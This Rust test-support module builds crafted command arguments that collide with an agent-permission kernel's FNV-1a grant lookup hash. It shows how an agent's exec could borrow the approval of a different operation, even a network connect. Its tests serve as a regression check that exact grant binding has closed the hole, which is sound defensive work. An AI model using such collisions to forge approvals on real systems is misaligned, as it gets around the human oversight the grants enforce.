//! The attacker's tool against the kernel's grant lookup hash (`agent_common::hash`): FNV-1a
//! mixed a word at a time is invertible, so an agent can compute arguments that give its exec
//! the lookup hash of any other operation in well under a second. Grants found by that hash
//! alone let such an exec through (the hole exact grant binding closes); the tests use this
//! generator to show that a collision now costs at most a lookup.

use agent_common::{
    hash::{self, FNV_OFFSET, FNV_PRIME},
    ARGV_LEN,
};

/// Bytes of the crafted argument appended to the caller's arguments.
pub const CRAFTED_LEN: usize = 32;

/// The kernel's lookup hash of an exec of `(dev, ino)` with arguments `args` (argv[1..]),
/// for argument lists that fit the capture whole.
pub fn exec_lookup(dev: u64, ino: u64, args: &[String]) -> u64 {
    let (buf, len) = capture(args);
    hash::exec_fingerprint(dev, ino, hash::tail_hash(&buf, len))
}

/// The kernel's lookup hash of a connect (IPv6 or IPv4-mapped address, port, `IPPROTO_*`).
pub fn connect_lookup(addr: &[u8; 16], port: u16, protocol: u16) -> u64 {
    hash::connect_fingerprint(addr, port, protocol)
}

/// `prefix` plus one crafted argument of [`CRAFTED_LEN`] printable ASCII bytes, such that an
/// exec of `(dev, ino)` with them as argv[1..] has the lookup hash `target`.
pub fn exec_args_with_lookup(dev: u64, ino: u64, prefix: &[&str], target: u64) -> Vec<String> {
    let inv = inverse(FNV_PRIME);
    // exec_fingerprint = mix(S, tail) with S = mix(mix(OFFSET, dev), ino).
    let s = hash::mix_word(hash::mix_word(FNV_OFFSET, dev), ino);
    let tail = target.wrapping_mul(inv) ^ s;
    let start: usize = prefix.iter().map(|a| a.len() + 1).sum();
    let len = (start + CRAFTED_LEN + 1) as u64;
    assert!(len < ARGV_LEN as u64, "the prefix leaves no room");
    // tail_hash = mix(words_hash, len); words_hash is the raw word hash (0 mapped to 1).
    let words = tail.wrapping_mul(inv) ^ len;
    // Two whole words inside the crafted argument: `free` is drawn at random, `solved`
    // computed so that the hash of the whole buffer comes out at `words`.
    let free = start.div_ceil(8);
    let solved = free + 1;
    let mut rng = 0x9e37_79b9_7f4a_7c15u64 ^ target;
    for _ in 0..1_000_000 {
        let mut crafted: Vec<u8> = (0..CRAFTED_LEN).map(|_| printable(&mut rng)).collect();
        let mut args: Vec<String> = prefix.iter().map(|a| (*a).to_owned()).collect();
        args.push(String::from_utf8(crafted.clone()).expect("ascii"));
        let (buf, _) = capture(&args);
        let word = |i: usize| u64::from_le_bytes(buf[i * 8..i * 8 + 8].try_into().expect("8"));
        // State before word `solved`, forwards.
        let mut h = FNV_OFFSET;
        for i in 0..solved {
            h = hash::mix_word(h, word(i));
        }
        // State after word `solved`, backwards from the end.
        let mut back = words;
        for i in (solved + 1..ARGV_LEN / 8).rev() {
            back = back.wrapping_mul(inv) ^ word(i);
        }
        let w = back.wrapping_mul(inv) ^ h;
        let bytes = w.to_le_bytes();
        if bytes.iter().all(|b| (0x21..0x7f).contains(b)) {
            let at = solved * 8 - start;
            crafted[at..at + 8].copy_from_slice(&bytes);
            let mut out: Vec<String> = prefix.iter().map(|a| (*a).to_owned()).collect();
            out.push(String::from_utf8(crafted).expect("ascii"));
            assert_eq!(
                exec_lookup(dev, ino, &out),
                target,
                "the generator is wrong"
            );
            return out;
        }
    }
    panic!("no printable collision found (never expected)")
}

/// argv[1..] as the kernel captures it (whole argument lists only).
fn capture(args: &[String]) -> ([u8; ARGV_LEN], u32) {
    let mut buf = [0u8; ARGV_LEN];
    let mut len = 0;
    for a in args {
        buf[len..len + a.len()].copy_from_slice(a.as_bytes());
        len += a.len() + 1;
    }
    (buf, len as u32)
}

/// A printable ASCII byte other than space.
fn printable(rng: &mut u64) -> u8 {
    *rng ^= *rng << 13;
    *rng ^= *rng >> 7;
    *rng ^= *rng << 17;
    0x21 + (*rng % 94) as u8
}

/// The inverse of an odd number modulo 2^64 (Newton's iteration).
fn inverse(a: u64) -> u64 {
    let mut x = a;
    for _ in 0..6 {
        x = x.wrapping_mul(2u64.wrapping_sub(a.wrapping_mul(x)));
    }
    x
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crafted_arguments_collide_with_any_operation() {
        let approved: Vec<String> = ["delete", "pod", "a"].map(String::from).to_vec();
        let target = exec_lookup(7, 42, &approved);
        let crafted = exec_args_with_lookup(7, 42, &["delete", "pod"], target);
        assert_ne!(crafted, approved);
        assert_eq!(exec_lookup(7, 42, &crafted), target);
        // Across kinds: an exec with the lookup hash of a connect.
        let mut addr = [0u8; 16];
        addr[10..].copy_from_slice(&[0xff, 0xff, 10, 9, 9, 9]);
        let target = connect_lookup(&addr, 5432, 6);
        let crafted = exec_args_with_lookup(7, 42, &["x"], target);
        assert_eq!(exec_lookup(7, 42, &crafted), target);
        assert_eq!(inverse(FNV_PRIME).wrapping_mul(FNV_PRIME), 1);
    }
}
